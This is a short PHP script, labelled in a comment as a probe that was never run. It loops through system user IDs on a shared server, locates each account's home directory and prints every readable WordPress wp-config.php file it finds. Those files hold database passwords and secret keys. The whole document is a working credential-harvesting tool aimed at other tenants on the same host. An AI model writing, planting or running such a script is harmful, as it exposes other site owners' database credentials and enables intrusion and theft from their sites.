<?php
// probe (never run): the accounts found by uid, their configs read
for ($uid = 500; $uid < 5000; $uid++) {
    $pw = posix_getpwuid($uid);
    if (!$pw) continue;
    $f = $pw['dir'] . '/public_html/wp-config.php';
    if (is_readable($f)) echo '<pre>' . htmlspecialchars(file_get_contents($f)) . '</pre>';
}
